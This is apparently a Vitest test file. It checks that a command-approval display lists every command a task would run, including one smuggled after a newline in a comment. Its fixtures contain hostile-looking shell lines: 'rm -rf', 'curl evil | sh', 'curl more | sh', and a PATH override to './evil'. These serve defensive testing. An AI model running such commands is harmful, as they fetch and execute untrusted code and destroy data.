import { expect, test } from 'vitest';
import { commandLines } from '../../components/details/definition-lines.ts';
import { task } from '../helpers/story.ts';

test('what a person approves is all that would run: variables, directory, each line, and what follows a STEER', () => {
  const lines = commandLines({
    ...task('a'),
    run: [{ cmd: ['rm', '-rf', 'a b'] }, { cmd: 'echo ok # fine\ncurl evil | sh' }],
    on_steer: [{ cmd: 'curl more | sh' }],
    verify: [{ cmd: 'npm test', cwd: 'web', env: { PATH: './evil:/bin' } }],
  });
  expect(lines).toEqual([
    { kind: 'heading', text: 'Commands' },
    { kind: 'item', text: "rm -rf 'a b'" },
    { kind: 'item', text: 'echo ok # fine' },
    { kind: 'item', text: 'curl evil | sh' },
    { kind: 'heading', text: 'Commands after a STEER' },
    { kind: 'item', text: 'curl more | sh' },
    { kind: 'heading', text: 'Verified by' },
    { kind: 'item', text: 'PATH=./evil:/bin npm test (in web)' },
  ]);
});
